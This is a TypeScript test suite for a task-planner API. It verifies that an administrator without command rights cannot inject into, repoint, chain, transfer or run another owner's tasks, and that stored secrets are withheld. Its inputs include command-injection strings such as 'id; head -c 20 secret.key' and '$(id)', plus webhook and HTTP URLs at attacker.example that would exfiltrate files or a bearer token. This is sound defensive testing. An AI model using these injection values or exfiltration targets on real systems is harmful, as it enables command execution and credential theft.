import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { SECRET_MASK } from '../../src/secrets/secret-box.ts';
import type { ApiClient } from '../support/api-client.ts';
import { backends } from '../support/backends.ts';
import { startTestApp, type TestApp } from '../support/test-app.ts';

/** An administrator of all tasks who may not run programs. */
const ADMIN_WITHOUT_COMMANDS = ['taskplanner', 'taskplanner.admin', 'job.http'];

const commandJob = (args: string[]) => ({
  id: 'program',
  kind: 'command',
  config: { program: 'echo', arguments: args },
});
const httpJob = (url: string, authorization: string) => ({
  id: 'fetch',
  kind: 'http',
  config: { url, authorization },
});

/** The fields of a task view that PUT takes back, with a new revision base. */
function editable(task: Record<string, any>) {
  const { name, description, enabled, timezone, triggers, jobs, actions, series, policy } = task;
  const fields = { name, description, enabled, timezone, triggers, jobs, actions, series, policy };
  return { ...fields, revision: task.revision as number };
}

for (const backend of await backends()) {
  describe(`editing a task one does not own, on ${backend.name}`, { skip: backend.skip }, () => {
    let t: TestApp;
    let owner: ApiClient;
    let ownerId: string;
    let otherAdmin: ApiClient;

    before(async () => {
      t = await startTestApp(backend, 'editor-rights');
      const created = await t.user('commander', ['taskplanner', 'job.command', 'job.http']);
      owner = created.client;
      ownerId = created.id;
      otherAdmin = (await t.user('taskadmin', ADMIN_WITHOUT_COMMANDS)).client;
    });
    after(async () => {
      await t?.close();
    });

    const createTask = async (body: Record<string, unknown>) => {
      const created = await owner.post('/api/v1/tasks', { name: 'nightly', ...body });
      assert.equal(created.status, 201, JSON.stringify(created.body));
      return created.body as { id: string; revision: number } & Record<string, any>;
    };

    it("may not add or change a component whose permission it lacks: the owner's are not lent", async () => {
      const task = await createTask({ jobs: [commandJob(['hello'])] });
      const changed = await otherAdmin.patch(`/api/v1/tasks/${task.id}`, {
        revision: task.revision,
        jobs: [{ ...commandJob(['id; head -c 20 secret.key']), config: { program: 'sh' } }],
      });
      assert.equal(changed.status, 403);
      assert.match(changed.body.detail, /job program \(command\) needs 'job\.command'/);
      const added = await otherAdmin.patch(`/api/v1/tasks/${task.id}`, {
        revision: task.revision,
        jobs: [commandJob(['hello']), { ...commandJob(['x']), id: 'second' }],
      });
      assert.equal(added.status, 403);
      const stored = (await owner.get(`/api/v1/tasks/${task.id}`)).body;
      assert.equal(stored.revision, task.revision);
      assert.deepEqual(stored.jobs[0].config.arguments, ['hello']);
    });

    it('may still describe, disable and change the policy, and is audited on behalf of the owner', async () => {
      const task = await createTask({ jobs: [commandJob(['hello'])] });
      const described = await otherAdmin.put(`/api/v1/tasks/${task.id}`, {
        ...editable(task),
        description: 'checked by the admin',
        policy: { ...task.policy, retries: 2 },
      });
      assert.equal(described.status, 200, JSON.stringify(described.body));
      assert.equal((await otherAdmin.post(`/api/v1/tasks/${task.id}/disable`)).status, 200);
      const renamed = await otherAdmin.patch(`/api/v1/tasks/${task.id}`, {
        revision: described.body.revision + 1,
        name: 'renamed; fills {task.name}',
      });
      assert.equal(renamed.status, 403, 'the name fills {task.name} in the program');
      const audit = await t.admin.get(`/api/v1/audit?objectId=${task.id}`);
      const update = audit.body.items.find((e: any) => e.action === 'task.update');
      assert.equal(update.actorLogin, 'taskadmin');
      assert.equal(update.details.onBehalfOf, 'commander');
      assert.equal(update.details.ownerId, ownerId);
    });

    it('may change a task all of whose permissions it holds', async () => {
      const task = await createTask({ jobs: [httpJob('https://example.com/a', '')] });
      const added = await otherAdmin.patch(`/api/v1/tasks/${task.id}`, {
        revision: task.revision,
        jobs: [
          httpJob('https://example.com/a', ''),
          { ...httpJob('https://example.com/b', ''), id: 'b' },
        ],
      });
      assert.equal(added.status, 200, JSON.stringify(added.body));
      assert.equal(added.body.jobs.length, 2);
    });

    it("may not feed its own values into the owner's program through the series", async () => {
      const task = await createTask({
        jobs: [
          {
            ...commandJob(['report for {who}']),
            config: { program: 'echo', arguments: ['{who}'] },
          },
        ],
        series: { kind: 'list', config: { items: [{ who: 'north' }] } },
      });
      const injected = await otherAdmin.patch(`/api/v1/tasks/${task.id}`, {
        revision: task.revision,
        series: { ...task.series, config: { items: [{ who: 'x; id' }] } },
      });
      assert.equal(injected.status, 403);
      assert.match(injected.body.detail, /job program \(command\) needs 'job\.command'/);
      const dropped = await otherAdmin.patch(`/api/v1/tasks/${task.id}`, {
        revision: task.revision,
        series: null,
      });
      assert.equal(dropped.status, 403, 'nor change what the program gets by removing it');
    });

    it("may not start the owner's program with its own parameters through a next-task", async () => {
      const program = await createTask({ name: 'program', jobs: [commandJob(['{who}'])] });
      const starter = await createTask({ name: 'starter' });
      const chained = await otherAdmin.patch(`/api/v1/tasks/${starter.id}`, {
        revision: starter.revision,
        actions: [
          {
            id: 'next',
            kind: 'next-task',
            config: { taskId: program.id, parameters: { who: 'y' } },
          },
        ],
      });
      assert.equal(chained.status, 403);
      assert.match(chained.body.detail, /of the task 'program' it starts needs 'job\.command'/);
    });

    it("may not send what the owner's job made, which it may not see, to a destination of its own", async () => {
      const auditor = await t.user('owner-auditor', ['taskplanner', 'audit.read', 'action.http']);
      const created = await auditor.client.post('/api/v1/tasks', {
        name: 'audit export',
        jobs: [{ id: 'export', kind: 'audit-export', config: { period: 'previous-day' } }],
      });
      assert.equal(created.status, 201, JSON.stringify(created.body));
      const webhookAdmin = await t.user('webhookadmin', [
        'taskplanner',
        'taskplanner.admin',
        'action.http',
      ]);
      const leaked = await webhookAdmin.client.patch(`/api/v1/tasks/${created.body.id}`, {
        revision: created.body.revision,
        actions: [
          { kind: 'webhook', config: { url: 'https://attacker.example/in', includeFiles: true } },
        ],
      });
      assert.equal(leaked.status, 403);
      assert.match(leaked.body.detail, /job export \(audit-export\) needs 'audit\.read'/);
    });

    it('may not transfer a task whose components it could not use itself', async () => {
      const task = await createTask({ jobs: [commandJob(['hello'])] });
      const plannerId = (await t.user('receiver', ['taskplanner', 'job.command'])).id;
      const moved = await otherAdmin.post(`/api/v1/tasks/${task.id}/owner`, {
        ownerId: plannerId,
      });
      assert.equal(moved.status, 403);
      assert.equal((await owner.get(`/api/v1/tasks/${task.id}`)).status, 200, 'still the owner’s');
      const byFullAdmin = await t.admin.post(`/api/v1/tasks/${task.id}/owner`, {
        ownerId: plannerId,
      });
      assert.equal(byFullAdmin.status, 200);
    });

    it('keeps a stored secret for another editor only in a component it leaves as it was', async () => {
      const task = await createTask({
        jobs: [httpJob('https://example.com/data', 'Bearer s3cret')],
      });
      assert.equal(task.jobs[0].config.authorization, SECRET_MASK);
      const untouched = await otherAdmin.put(`/api/v1/tasks/${task.id}`, {
        ...editable(task),
        description: 'edited by admin',
      });
      assert.equal(untouched.status, 200, JSON.stringify(untouched.body));
      const repointed = await otherAdmin.put(`/api/v1/tasks/${task.id}`, {
        ...editable(untouched.body),
        jobs: [httpJob('https://attacker.example/collect', SECRET_MASK)],
      });
      assert.equal(repointed.status, 400);
      assert.match(repointed.body.errors[0].message, /type the secret again/);
      const stored = (await owner.get(`/api/v1/tasks/${task.id}`)).body;
      assert.equal(stored.jobs[0].config.url, 'https://example.com/data');
    });

    it('drops a kept secret, even for the owner, when the destination of its component changes', async () => {
      const task = await createTask({
        jobs: [httpJob('https://example.com/data', 'Bearer s3cret')],
      });
      const repointed = await owner.put(`/api/v1/tasks/${task.id}`, {
        ...editable(task),
        jobs: [httpJob('https://elsewhere.example/data', SECRET_MASK)],
      });
      assert.equal(repointed.status, 400);
      assert.match(repointed.body.errors[0].message, /the destination changed/);
      const retyped = await owner.put(`/api/v1/tasks/${task.id}`, {
        ...editable(task),
        jobs: [httpJob('https://elsewhere.example/data', 'Bearer n3w')],
      });
      assert.equal(retyped.status, 200);
      const timeout = await owner.put(`/api/v1/tasks/${task.id}`, {
        ...editable(retyped.body),
        jobs: [httpJob('https://elsewhere.example/data', SECRET_MASK)],
        description: 'same destination',
      });
      assert.equal(timeout.status, 200, 'the same destination keeps the secret');
    });

    it("leaves the owner's secrets behind in a copy made by someone else", async () => {
      const task = await createTask({
        jobs: [httpJob('https://example.com/data', 'Bearer s3cret')],
      });
      const copied = await otherAdmin.post(`/api/v1/tasks/${task.id}/copy`);
      assert.equal(copied.status, 201, JSON.stringify(copied.body));
      assert.equal(copied.body.jobs[0].config.authorization, '', 'emptied, not masked');
      const stored = await t.services.store.tasks.get(copied.body.id);
      assert.equal(stored?.jobs[0]?.config.authorization, '');
      const own = await owner.post(`/api/v1/tasks/${task.id}/copy`);
      assert.equal(own.body.jobs[0].config.authorization, SECRET_MASK, "the owner's copy keeps it");
    });

    it("may start someone else's task with parameters only if it could use all its components", async () => {
      const task = await createTask({ jobs: [commandJob(['{message}'])], enabled: false });
      const url = `/api/v1/tasks/${task.id}/run`;
      const withParameters = await otherAdmin.post(url, { parameters: { message: '$(id)' } });
      assert.equal(withParameters.status, 403);
      assert.match(withParameters.body.detail, /needs 'job\.command'/);
      assert.equal((await t.admin.get(`/api/v1/runs?taskId=${task.id}`)).body.items.length, 0);
      assert.equal((await otherAdmin.post(url)).status, 202, 'a plain start is still allowed');
    });
  });
}
